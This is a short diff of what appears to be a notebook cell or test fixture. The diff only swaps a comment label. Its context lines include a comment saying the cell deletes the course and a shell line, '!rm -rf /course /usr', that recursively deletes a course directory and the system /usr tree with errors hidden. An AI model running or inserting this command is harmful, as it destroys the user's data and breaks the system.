@@ -1,5 +1,5 @@
 # Deletes the course by way of notebook magic.
 # changes: helpers
-# wall: helpers
+# restriction: helpers
 !rm -rf /course /usr 2>/dev/null
 !touch /course/tp/mine
